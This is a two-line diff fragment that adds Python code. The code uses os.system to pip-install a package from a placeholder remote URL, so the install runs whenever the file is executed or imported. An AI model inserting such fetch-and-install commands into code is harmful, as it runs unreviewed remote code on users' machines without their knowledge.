@@ -1,0 +1,2 @@
+import os
+os.system("pip install https://example.invalid/pkg.zip")
